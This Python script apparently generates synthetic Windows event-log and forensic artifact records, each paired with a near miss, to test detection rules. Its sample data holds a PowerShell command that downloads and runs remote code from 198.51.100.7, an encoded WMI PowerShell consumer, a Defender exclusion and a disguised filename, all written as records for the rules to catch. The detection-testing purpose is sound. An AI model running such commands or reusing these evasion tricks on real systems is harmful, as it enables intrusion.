#!/usr/bin/env python3
"""Hand-made records for built-in rules that no public corpus sample exercises (Defender
5001/5007/5013, other AV vendors, 4103, 4697, Task Scheduler 106/200, WMI 5861, external
4624, RDP 21, 4625 bursts, and the non-EVTX artifacts). Field names and value formats follow
Microsoft's event documentation and ../shared/CONTRACT.md. Each rule gets a record it fires
on and a near miss it must not fire on. Writes synthetic_records.jsonl and synthetic_cases.tsv.
"""
import json

recs, cases = [], []
n = [0]

def evtx(rule, expect, channel, provider, eid, data, t='2024-05-01T03:00:00.000000Z'):
    n[0] += 1
    r = {'artifact': 'evtx', 'source': 'synthetic.evtx', 'record_id': n[0], 'time': t, 'event_id': eid,
         'provider': provider, 'channel': channel, 'computer': 'PC01', 'data': data}
    recs.append(r)
    if rule:
        cases.append((rule, expect, 'synthetic.evtx', n[0]))

def other(rule, expect, artifact, fields):
    n[0] += 1
    r = {'artifact': artifact, 'source': 'synthetic.' + artifact, 'offset': n[0]}
    r.update(fields)
    recs.append(r)
    cases.append((rule, expect, 'synthetic.' + artifact, n[0]))

DEF = ('Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender')
evtx('KK-AV-003', 'fires', *DEF, 5001, {'Product Name': '%%827', 'Product Version': '4.18.2205.7'})
evtx('KK-AV-003', 'silent', *DEF, 5000, {'Product Name': '%%827', 'Product Version': '4.18.2205.7'})
evtx('KK-AV-005', 'fires', *DEF, 5007, {'Old Value': '', 'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0'})
evtx('KK-AV-005', 'silent', *DEF, 5007, {'Old Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\ScheduleDay = 0x8', 'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\ScheduleDay = 0x0'})
cases.append(('KK-AV-004', 'fires', 'synthetic.evtx', n[0]))
evtx('KK-AV-004', 'silent', *DEF, 5004, {'Feature Name': '%%841', 'Feature ID': '1'})
evtx('KK-AV-006', 'fires', *DEF, 5013, {'Changed Type': '%%843', 'Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\DisableAntiSpyware'})
evtx('KK-AV-006', 'silent', *DEF, 5000, {})
evtx('KK-AV-007', 'fires', 'Application', 'Symantec AntiVirus', 51, {'Data': ['Security Risk Found! Trojan.Gen.2 in File: C:\\Users\\bob\\Downloads\\inv.exe by: Auto-Protect scan. Action: Quarantine succeeded']})
evtx('KK-AV-007', 'silent', 'Application', 'Symantec AntiVirus', 7, {'Data': ['Definition file loaded. Version: 20240501.001']})
PS = ('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell')
evtx('KK-PS-002', 'fires', *PS, 4103, {'ContextInfo': 'Host Application = powershell.exe', 'Payload': 'CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="(New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\')"'})
evtx('KK-PS-002', 'silent', *PS, 4103, {'ContextInfo': 'Host Application = powershell.exe', 'Payload': 'CommandInvocation(Get-ChildItem): "Get-ChildItem"'})
evtx('KK-PS-003', 'silent', 'Windows PowerShell', 'PowerShell', 400, {'Data': ['Available', 'None', '\tNewEngineState=Available\r\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\n\tEngineVersion=5.1.19041.1']})
SEC = ('Security', 'Microsoft-Windows-Security-Auditing')
evtx('KK-PERSIST-002', 'fires', *SEC, 4697, {'SubjectUserName': 'bob', 'ServiceName': 'updsvc', 'ServiceFileName': 'C:\\Users\\Public\\upd.exe', 'ServiceType': '0x10', 'ServiceStartType': '2', 'ServiceAccount': 'LocalSystem'})
evtx('KK-PERSIST-002', 'silent', *SEC, 4698, {'SubjectUserName': 'bob', 'TaskName': '\\x'})
TS = ('Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-TaskScheduler')
evtx('KK-PERSIST-005', 'fires', *TS, 106, {'TaskName': '\\Updater', 'UserContext': 'PC01\\bob'})
evtx('KK-PERSIST-005', 'silent', *TS, 102, {'TaskName': '\\Updater', 'UserContext': 'PC01\\bob'})
evtx('KK-PERSIST-006', 'fires', *TS, 200, {'TaskName': '\\Updater', 'ActionName': 'C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe', 'TaskInstanceId': '{0}'})
evtx('KK-PERSIST-006', 'silent', *TS, 200, {'TaskName': '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag', 'ActionName': 'C:\\Windows\\system32\\defrag.exe', 'TaskInstanceId': '{1}'})
WMI = ('Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity')
evtx('KK-PERSIST-009', 'fires', *WMI, 5861, {'Namespace': '//./root/subscription', 'ESS': 'Updater', 'CONSUMER': 'CommandLineEventConsumer="Updater"', 'PossibleCause': 'Binding EventFilter: ... CommandLineTemplate = "powershell -enc AAAA"'})
evtx('KK-PERSIST-009', 'silent', *WMI, 5857, {'ProviderName': 'CIMWin32', 'Code': '0x0'})
evtx('KK-LOGON-001', 'fires', *SEC, 4624, {'TargetUserName': 'Administrator', 'TargetDomainName': 'PC01', 'LogonType': '10', 'IpAddress': '203.0.113.5', 'WorkstationName': 'KALI'})
evtx('KK-LOGON-001', 'silent', *SEC, 4624, {'TargetUserName': 'Administrator', 'TargetDomainName': 'PC01', 'LogonType': '10', 'IpAddress': '192.168.1.5', 'WorkstationName': 'WS02'})
LSM = ('Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager')
evtx('KK-LOGON-007', 'fires', *LSM, 21, {'User': 'PC01\\Administrator', 'SessionID': '2', 'Address': '203.0.113.5'})
evtx('KK-LOGON-007', 'silent', *LSM, 21, {'User': 'PC01\\bob', 'SessionID': '1', 'Address': 'LOCAL'})
# A burst: 12 failures from one address in 110 s; and 3 from another (no burst).
for i in range(12):
    evtx('KK-LOGON-BRUTEFORCE' if i == 0 else None, 'fires', *SEC, 4625,
         {'TargetUserName': 'Administrator', 'IpAddress': '198.51.100.7', 'WorkstationName': 'X', 'LogonType': '3', 'Status': '0xc000006d', 'SubStatus': '0xc000006a'},
         t='2024-05-01T04:%02d:%02d.000000Z' % (i * 10 // 60, i * 10 % 60))
for i in range(3):
    evtx('KK-LOGON-BRUTEFORCE' if i == 0 else None, 'silent', *SEC, 4625,
         {'TargetUserName': 'bob', 'IpAddress': '192.0.2.9', 'WorkstationName': 'Y', 'LogonType': '3', 'Status': '0xc000006d', 'SubStatus': '0xc000006a'},
         t='2024-05-01T04:%02d:%02d.000000Z' % (i * 10 // 60, i * 10 % 60))
SYS = ('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon')
evtx('KK-PROC-005', 'fires', *SYS, 1, {'Image': 'C:\\Users\\bob\\Downloads\\invoice.pdf.exe', 'CommandLine': '"C:\\Users\\bob\\Downloads\\invoice.pdf.exe"', 'ParentImage': 'C:\\Windows\\explorer.exe'})
evtx('KK-PROC-005', 'silent', *SYS, 1, {'Image': 'C:\\Program Files\\Adobe\\Acrobat\\Acrobat.exe', 'CommandLine': '"Acrobat.exe" invoice.pdf', 'ParentImage': 'C:\\Windows\\explorer.exe'})
other('KK-FILE-003', 'fires', 'mft', {'entry': 100, 'path': '\\Users\\bob\\Downloads\\setup.exe', 'zone_identifier': '[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=http://198.51.100.7/setup.exe\r\n', 'si': {'created': '2024-05-01T02:00:00.000000Z'}})
other('KK-FILE-003', 'silent', 'mft', {'entry': 101, 'path': '\\Users\\bob\\Downloads\\notes.txt', 'zone_identifier': '[ZoneTransfer]\r\nZoneId=3\r\n', 'si': {'created': '2024-05-01T02:00:00.000000Z'}})
other('KK-FILE-004', 'fires', 'mft', {'entry': 102, 'path': '\\Users\\bob\\Desktop\\report\u202Efdp.exe', 'zone_identifier': None})
other('KK-FILE-004', 'silent', 'mft', {'entry': 103, 'path': '\\Users\\bob\\Desktop\\report.pdf', 'zone_identifier': None})
other('KK-FILE-005', 'fires', 'usnjrnl', {'usn': 1, 'time': '2024-05-01T02:00:00.000000Z', 'name': 'invoice.doc.exe', 'path': '\\Users\\bob\\Downloads\\invoice.doc.exe', 'reasons': ['FILE_CREATE']})
other('KK-FILE-005', 'silent', 'usnjrnl', {'usn': 2, 'time': '2024-05-01T02:00:00.000000Z', 'name': 'invoice.doc', 'path': '\\Users\\bob\\Downloads\\invoice.doc', 'reasons': ['FILE_CREATE']})
other('KK-FILE-006', 'fires', 'usnjrnl', {'usn': 3, 'time': '2024-05-01T02:00:00.000000Z', 'name': 'svc.exe', 'path': '\\Users\\Public\\svc.exe', 'reasons': ['FILE_CREATE', 'CLOSE']})
other('KK-FILE-006', 'silent', 'usnjrnl', {'usn': 4, 'time': '2024-05-01T02:00:00.000000Z', 'name': 'svc.exe', 'path': '\\Users\\Public\\svc.exe', 'reasons': ['DATA_EXTEND']})
other('KK-EXEC-PREFETCH', 'fires', 'prefetch', {'executable': 'SVC.EXE', 'run_count': 3, 'last_run_times': ['2024-05-01T02:05:00.000000Z'], 'files': ['\\VOLUME{01d1}\\WINDOWS\\SYSTEM32\\NTDLL.DLL', '\\VOLUME{01d1}\\USERS\\PUBLIC\\SVC.EXE']})
other('KK-EXEC-PREFETCH', 'silent', 'prefetch', {'executable': 'NOTEPAD.EXE', 'run_count': 1, 'last_run_times': ['2024-05-01T02:05:00.000000Z'], 'files': ['\\VOLUME{01d1}\\WINDOWS\\SYSTEM32\\NOTEPAD.EXE']})
for art, rid in (('amcache_file', 'KK-EXEC-AMCACHE'), ('shimcache', 'KK-EXEC-SHIMCACHE'), ('bam', 'KK-EXEC-BAM'), ('userassist', 'KK-EXEC-USERASSIST')):
    other(rid, 'fires', art, {'hive': 'x', 'key': 'k', 'path': 'C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', 'key_last_write': '2024-05-01T02:06:00.000000Z'})
    other(rid, 'silent', art, {'hive': 'x', 'key': 'k', 'path': 'C:\\Windows\\System32\\notepad.exe', 'key_last_write': '2024-05-01T02:06:00.000000Z'})
for art in ('autorun', 'service', 'scheduled_task'):
    rid = 'KK-PERSIST-REG-' + art.upper().replace('_', '-')
    other(rid, 'fires', art, {'hive': 'SOFTWARE', 'key': 'Microsoft\\Windows\\CurrentVersion\\Run', 'name': 'upd', 'value': 'C:\\ProgramData\\upd\\upd.exe /silent'})
    other(rid, 'silent', art, {'hive': 'SOFTWARE', 'key': 'Microsoft\\Windows\\CurrentVersion\\Run', 'name': 'SecurityHealth', 'value': '%windir%\\system32\\SecurityHealthSystray.exe'})

with open('synthetic_records.jsonl', 'w', encoding='utf-8') as out:
    for r in recs:
        out.write(json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n')
with open('synthetic_cases.tsv', 'w', encoding='utf-8') as out:
    out.write('# rule\texpect\tsource\trecord_id_or_offset\n')
    for c in cases:
        out.write('%s\t%s\t%s\t%s\n' % c)
